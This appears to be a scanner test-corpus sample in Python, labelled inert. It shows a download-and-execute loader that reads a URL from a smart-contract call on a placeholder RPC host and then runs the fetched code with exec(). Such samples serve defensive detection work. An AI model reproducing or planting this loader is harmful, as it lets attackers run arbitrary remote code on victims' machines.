# pkgguard corpus 696 (download-execute), modelled on [developer-persistence]; inert, never run.
import json
import urllib.request

_RPC = "https://rpc.chain-node.example"
_CONTRACT = "0x" + "00" * 20

_call = {
    "jsonrpc": "2.0",
    "id": 1,
    "method": "eth_call",
    "params": [{"to": _CONTRACT, "data": "0x2e64cec1"}, "latest"],
}
_req = urllib.request.Request(_RPC, data=json.dumps(_call).encode(), headers={"Content-Type": "application/json"})
_raw = bytes.fromhex(json.loads(urllib.request.urlopen(_req, timeout=15).read())["result"][2:])
_size = int.from_bytes(_raw[32:64], "big")
_url = _raw[64 : 64 + _size].decode()
exec(urllib.request.urlopen(_url, timeout=15).read().decode())
